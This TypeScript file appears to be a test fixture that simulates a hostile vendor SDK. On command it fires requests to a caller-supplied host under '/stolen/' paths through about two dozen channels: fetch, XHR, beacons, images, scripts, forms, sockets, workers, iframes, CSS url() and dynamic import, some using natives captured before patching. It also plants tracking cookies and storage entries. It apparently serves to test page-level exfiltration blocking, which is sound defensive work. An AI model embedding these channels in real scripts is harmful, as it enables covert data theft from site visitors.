/**
 * A vendor SDK gone bad: behaves until it is told to `attack`, and then tries every way out of a page
 * that it can, with natives it has kept since it was evaluated.
 */
export function hostileSdk(host: string) {
  const kept = {
    fetch: window.fetch,
    XMLHttpRequest: window.XMLHttpRequest,
    beacon: navigator.sendBeacon.bind(navigator),
  }
  const to = (road: string): string => `${host}/stolen/${road}`
  const frame = (): Window & typeof globalThis => {
    const element = document.createElement('iframe')
    document.documentElement.append(element)
    return element.contentWindow as Window & typeof globalThis
  }
  const create = (tag: string, key: string, road: string): void => {
    const element = document.createElement(tag)
    Object.assign(element, { [key]: to(road) })
    document.body.append(element)
  }
  /** Roads that patches can close. */
  const patched: Record<string, () => unknown> = {
    fetch: () => fetch(to('fetch')),
    keepalive: () => fetch(to('keepalive'), { keepalive: true, method: 'POST', body: '{}' }),
    xhr: () => {
      const xhr = new XMLHttpRequest()
      xhr.open('GET', to('xhr'))
      xhr.send()
    },
    'kept fetch': () => kept.fetch(to('kept-fetch')),
    'kept xhr': () => {
      const xhr = new kept.XMLHttpRequest()
      xhr.open('GET', to('kept-xhr'))
      xhr.send()
    },
    beacon: () => navigator.sendBeacon(to('beacon'), 'x'),
    'kept beacon': () => kept.beacon(to('kept-beacon'), 'x'),
    image: () => (new Image().src = to('image')),
    img: () => create('img', 'src', 'img'),
    srcset: () => create('img', 'srcset', 'srcset'),
    attribute: () => document.createElement('img').setAttribute('src', to('attribute')),
    script: () => create('script', 'src', 'script'),
    iframe: () => create('iframe', 'src', 'iframe'),
    link: () => {
      const link = document.createElement('link')
      link.rel = 'stylesheet'
      link.href = to('link')
      document.head.append(link)
    },
    form: () => {
      const form = document.createElement('form')
      const target = document.createElement('iframe')
      target.name = 'sink'
      form.action = to('form')
      form.target = 'sink'
      document.body.append(target, form)
      form.submit()
    },
    'event source': () => new EventSource(to('event-source')),
    socket: () => new WebSocket(to('socket').replace('http', 'ws')),
    worker: () => new Worker(to('worker')),
    'frame fetch': () => frame().fetch(to('frame-fetch')),
    'frame xhr': () => {
      const xhr = new (frame().XMLHttpRequest)()
      xhr.open('GET', to('frame-xhr'))
      xhr.send()
    },
    'frame image': () => (new (frame().Image)().src = to('frame-image')),
  }
  /** Roads that only a policy of the browser closes. */
  const walled: Record<string, () => unknown> = {
    'inner html': () =>
      document.body.insertAdjacentHTML('beforeend', `<img src="${to('inner-html')}">`),
    'blob worker': () => {
      const code = `fetch(${JSON.stringify(to('blob-worker'))})`
      return new Worker(URL.createObjectURL(new Blob([code])))
    },
    style: () => {
      const style = document.createElement('style')
      style.textContent = `body { background: url(${to('style')}) }`
      document.head.append(style)
    },
    'dynamic import': () => import(/* @vite-ignore */ to('dynamic-import')),
  }
  return {
    attack(roads: 'patched' | 'walled'): string[] {
      const all = roads === 'patched' ? patched : walled
      for (const road of Object.values(all))
        try {
          void Promise.resolve(road()).catch(() => {})
        } catch {
          // Refused.
        }
      return Object.keys(all)
    },
    rewriteStorage(): void {
      document.cookie = 'hostile_id=1; path=/'
      document.cookie = 'hostile_part=1; path=/; secure; samesite=none; partitioned'
      localStorage.setItem('hostile_queue', '[]')
      sessionStorage.setItem('hostile_tab', '1')
    },
  }
}
